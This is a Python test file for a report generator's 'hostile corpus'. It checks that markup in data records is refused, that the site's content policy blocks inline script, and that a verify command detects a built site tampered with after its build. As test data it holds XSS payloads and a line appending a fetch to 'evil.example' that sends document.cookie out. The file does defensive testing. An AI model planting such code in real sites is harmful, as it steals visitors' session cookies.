"""The fifth round of the hostile corpus (issue #29): the site, its pages and `reportgen verify`.
Record strings that reached the int8 and codegen pages as markup, the pages' content policy,
a built site edited after its build (an event attribute, a planted page, a changed bundle, a
consistent forgery of figures, chart data, CSV downloads, coverage), a site folder inside a site,
a huge figure index, and a PDF printed while a build is under way.

Each case id is an entry of tests/data/hostile/cases.yaml (test_hostile.py checks that every entry
has a test in some round); the corpus helpers are round 4's.
"""
import html

import pytest
from helpers import record, write_run
from conftest import ROOT
from test_hostile import _markup
from test_hostile_round4 import CASES, RUN, _expect, _one_line

from reportgen.data import load
from reportgen.errors import ReportError

PAYLOAD = "<img src=x onerror=alert(1)>"


# -- F01: record strings the int8 and codegen pages print are typed at load -------------------

def _extra(**change):
    def mutate(tmp):
        rec = record(RUN)
        rec["extra"].update(change)
        write_run(tmp, RUN, [rec])
    return mutate


MUTATIONS = {
    "extra_training_epochs_markup": _extra(training={"epochs": PAYLOAD, "seconds": 1.0, "eval_accuracy": 0.9}),
    "extra_training_counts_markup": _extra(training={"epochs": 3, "counts": {"train": PAYLOAD}}),
    "extra_fma_packed_key_markup": _extra(codegen={"fma_scalar": 0, "fma_packed": {PAYLOAD: 3}}),
    "extra_ort_by_op_key_markup": _extra(ort_coverage={"by_op": {PAYLOAD: {"integer": 1, "float": 0}}}),
    "extra_xnnpack_partitions_markup": _extra(converter={"int8_compute_ops": 3, "xnnpack_partitions": PAYLOAD}),
    "extra_rewrite_quantize_markup": _extra(rewrite={"quantize": PAYLOAD, "dequantize": 1, "quantized_ops": {},
                                                     "float_ops": []}),
}


@pytest.mark.parametrize("case", sorted(MUTATIONS))
def test_round5_record_strings_for_pages_are_refused_naming_the_file(case, tmp_path):
    results = tmp_path / "results"
    results.mkdir()
    MUTATIONS[case](results)
    with pytest.raises(ReportError) as err:
        load.read_runs(results)
    text = "\n".join(err.value.problems)
    assert _expect(case) in text, text
    assert str(results) in text, "the message names the file"
    assert CASES[case]["field"] in text, "the message names the field"
    assert all("\n" not in p for p in err.value.problems)


@pytest.mark.parametrize("value", [PAYLOAD, '<a href="x" onclick="alert(1)">1</a>', "<script>alert(1)</script>",
                                   '<a href="javascript:alert(1)">x</a>'])
def test_a_value_w_fills_in_may_not_be_markup_the_code_never_builds(value):
    from reportgen.data.words import W
    text = W("codegen.instruction_facts.reg_count", count="1", reg=value)
    assert value not in text and html.escape(value, quote=True) in text, _expect("words_value_markup_guard")
    parsed = _markup(text)
    assert not parsed.bad, parsed.bad


def test_the_markup_the_code_builds_passes_the_guard():
    from reportgen.data.words import W
    figure = '<a class="num cur" data-num="x#p50" href="p.html#x" title="a: b">1.0</a>'
    text = W("codegen.instruction_facts.reg_count", count=figure, reg="<code>ymm</code> a < b")
    assert figure in text and "<code>ymm</code> a < b" in text


def test_the_pages_escape_the_names_they_print():
    """Behind the load check, the int8 and codegen pages escape every record name they print."""
    import inspect
    from reportgen.pages import codegen, int8
    assert "reg=_esc(reg)" in inspect.getsource(codegen.instruction_facts)
    assert "op=_esc(op)" in inspect.getsource(int8._coverage)
    assert '_esc(r["dtype"])' in inspect.getsource(int8.layers)





# -- F02: the pages' content policy allows no inline and no eval'd script ----------------------

def test_the_page_policy_allows_no_inline_or_eval_script():
    from reportgen.publish.plugin import PAGE_CSP
    script_src = next(d for d in PAGE_CSP.split(";") if d.strip().startswith("script-src"))
    assert script_src.split() == ["script-src", "'self'"], _expect("csp_no_inline_or_eval")
    assert "unsafe-eval" not in PAGE_CSP and "unsafe-inline" not in script_src


def test_materials_inline_scripts_are_files_of_the_site():
    """The theme's two inline scripts and the search iframe's first script are files (the browser
    test runs search from http and file://, and every chart, under the policy)."""
    theme = ROOT / "reportgen" / "publish" / "theme" / "partials" / "javascripts"
    for name in ("base.html", "content.html"):
        text = (theme / name).read_text(encoding="utf-8")
        assert "<script src=" in text and "<script>" not in text
    shim = (ROOT / "docs" / "assets" / "vendor" / "iframe-worker-shim.js").read_text(encoding="utf-8")
    assert "<script>" not in shim and "iframe-worker-inner.js" in shim
    assert "ast: true" in (ROOT / "docs" / "assets" / "js" / "charts.js").read_text(encoding="utf-8")

# -- F10: a site folder inside a site ------------------------------------------------------------

@pytest.mark.parametrize("inner", ["site/data/x", "site/assets", "site/data/runs/r/site", "site.tmp/x"])
def test_a_site_inside_a_site_is_refused(tmp_path, inner):
    from reportgen.commands import build
    root = tmp_path / "root"
    for site in ("site", "site.tmp"):
        (root / site / "data").mkdir(parents=True)
        (root / site / build.MARKER).write_text("built\n")
    before = sorted(p.relative_to(root).as_posix() for p in root.rglob("*"))
    with pytest.raises(ReportError) as err:
        build.check_site_dir(root, root / inner)
    assert _expect("site_dir_inside_site") in _one_line(err.value)
    assert sorted(p.relative_to(root).as_posix() for p in root.rglob("*")) == before


SPECIAL = {"words_value_markup_guard", "csp_no_inline_or_eval", "site_dir_inside_site", "pdf_during_build"}


# -- F25: `reportgen pdf` while a build publishes the same site --------------------------------

def test_pdf_waits_for_a_build_in_progress_then_refuses(built_copy, tmp_path, monkeypatch):
    import os
    pytest.importorskip("playwright")
    from reportgen.commands import build, pdf
    site = built_copy / "site"
    ran = tmp_path / "browser-ran"
    exe = tmp_path / "fake-chromium"
    exe.write_text(f"#!/bin/sh\ntouch {ran}\nexit 1\n")
    exe.chmod(0o755)
    monkeypatch.setenv("REPORTGEN_CHROMIUM", str(exe))
    lock = build._Lock(site.resolve(), 0)
    with lock:   # a build holding the site's lock (as `reportgen build` does from start to publish)
        (site.parent / "site.tmp").mkdir()
        with pytest.raises(ReportError) as err:
            pdf.write_pdf(built_copy, site, quiet=True, wait_s=0.3)
        assert os.pread(lock.fd, 32, 0).decode().strip() == str(os.getpid())
    text = _one_line(err.value)
    assert _expect("pdf_during_build") in text and "try again when it has finished" in text
    assert not ran.exists() and not (site / pdf.PRINT_PAGE).exists() and not (site / pdf.PDF_NAME).exists()


# -- F03-F09, F11: a built site edited after its build -------------------------------------------

def _verify_problems(project, rebuild=False):
    from reportgen.commands import build
    from reportgen.publish import verify
    with pytest.raises(ReportError) as err:
        (build.verify_site if rebuild else verify.verify)(project, project / "site")
    assert all("\n" not in p and "Traceback" not in p for p in err.value.problems)
    return "\n".join(err.value.problems)


def _relist(site):
    """The attacker who also rewrites the site's list of files."""
    from reportgen.publish import sitecheck
    sitecheck.write_manifest(site)


def _edit(path, old, new):
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_verify_refuses_event_attributes_and_inline_scripts_anywhere(built_copy):
    site = built_copy / "site"
    _edit(site / "gemm.html", "<article", "<article onmouseover=alert(1)")
    _edit(site / "int8.html", "</article>", "<script>alert(1)</script></article>")
    svg = sorted((site / "assets" / "charts").glob("*.svg"))[0]
    _edit(svg, "<svg", "<svg onload=alert(1)")
    _relist(site)
    text = _verify_problems(built_copy)
    assert f"{site / 'gemm.html'}: <article onmouseover='alert(1)'>: {_expect('verify_event_attribute')}" in text
    assert f"{site / 'int8.html'}: <script>: {_expect('verify_inline_script')}" in text
    assert f"{svg}: <svg onload='alert(1)'>: {_expect('verify_event_attribute')}" in text


def test_verify_refuses_a_file_the_build_did_not_write_and_a_changed_bundle(built_copy):
    site = built_copy / "site"
    (site / "evil.html").write_text("<html><head></head><body>hi</body></html>", encoding="utf-8")
    (site / "assets" / "evil.html").write_text("<p>hi</p>", encoding="utf-8")
    bundle = sorted((site / "assets" / "javascripts").glob("bundle.*.js"))[0]
    bundle.write_bytes(bundle.read_bytes() + b"\nfetch('//evil.example/'+document.cookie);\n")
    text = _verify_problems(built_copy)
    assert f"{site / 'evil.html'}: {_expect('verify_planted_page')}" in text
    assert f"{site / 'assets' / 'evil.html'}: {_expect('verify_planted_page')}" in text
    assert f"{bundle}: {_expect('verify_changed_bundle')}" in text


def test_verify_rebuilds_what_it_can_and_refuses_a_consistent_forgery(built_copy):
    """numbers.json and the page's figure forged together, the list of files rewritten to match: the
    fresh build from results/ has the figure's own digits (and the chart data, the CSV downloads and
    coverage.json, each tampered here too)."""
    import json
    import re
    from reportgen.commands import build
    from reportgen.publish import verify
    site = built_copy / "site"
    assert build.verify_site(built_copy, site)   # an untouched site is what a fresh build writes
    index = json.loads((site / "numbers.json").read_text(encoding="utf-8"))
    entry = next(e for e in index if e["kind"] == "current" and e["page"] == "gemm.md")
    entry["value"] = "99999"
    (site / "numbers.json").write_text(json.dumps(index, ensure_ascii=False, indent=1), encoding="utf-8")
    page = site / "gemm.html"
    text = page.read_text(encoding="utf-8")
    figure = re.compile(r'(<a class="num cur" data-num="%s"[^>]*>)[^<]+</a>' % re.escape(entry["id"]))
    page.write_text(figure.sub(lambda m: m.group(1) + "99999</a>", text), encoding="utf-8")
    chart_page = next(p for p in sorted(site.glob("*.html")) if 'id="spec-' in p.read_text(encoding="utf-8"))
    text = chart_page.read_text(encoding="utf-8")
    at = re.compile(r"\d").search(text, text.index('"values": [', text.index('id="spec-'))).start()
    chart_page.write_text(text[:at] + str((int(text[at]) + 1) % 10) + text[at + 1:], encoding="utf-8")
    csv = sorted((site / "csv").glob("*.csv"))[0]
    csv.write_text(csv.read_text(encoding="utf-8") + "forged,1\n", encoding="utf-8")
    coverage = json.loads((site / "coverage.json").read_text(encoding="utf-8"))
    coverage[0]["covered"] = not coverage[0]["covered"]
    (site / "coverage.json").write_text(json.dumps(coverage, ensure_ascii=False), encoding="utf-8")
    _relist(site)
    assert verify.verify(built_copy, site)   # every check that trusts the site's own files passes
    text = _verify_problems(built_copy, rebuild=True)
    for path, case in ((site / "numbers.json", "verify_consistent_forgery"), (page, "verify_consistent_forgery"),
                       (chart_page, "verify_chart_data_tampered"), (csv, "verify_csv_tampered"),
                       (site / "coverage.json", "verify_coverage_tampered")):
        assert f"{path}: {_expect(case)}" in text, (case, text)


def test_reportgen_verify_and_pdf_rebuild():
    import inspect
    from reportgen import cli
    from reportgen.commands import pdf
    assert "build.verify_site(" in inspect.getsource(cli.verify_command.callback)
    assert "build.verify_site(" in inspect.getsource(pdf._verified_pdf)


@pytest.mark.parametrize("case", ["verify_huge_index", "verify_deep_index"])
def test_a_huge_or_deep_figure_index_is_one_line(built_copy, case):
    import time
    site = built_copy / "site"
    if case == "verify_huge_index":
        with open(site / "numbers.json", "wb") as fh:   # 500 MB that take no disk
            fh.truncate(500 * 2**20)
    else:
        (site / "numbers.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
        _relist(site)   # (a list of files cannot name the huge one: it is refused unread, unhashed)
    started = time.monotonic()
    text = _verify_problems(built_copy)
    assert time.monotonic() - started < 60
    assert f"{site / 'numbers.json'}: " in text and _expect(case) in text, text
    assert "internal error" not in text and "MemoryError" not in text and "RecursionError" not in text


SPECIAL |= {"verify_event_attribute", "verify_inline_script", "verify_planted_page", "verify_changed_bundle",
            "verify_consistent_forgery", "verify_chart_data_tampered", "verify_csv_tampered",
            "verify_coverage_tampered", "verify_huge_index", "verify_deep_index"}
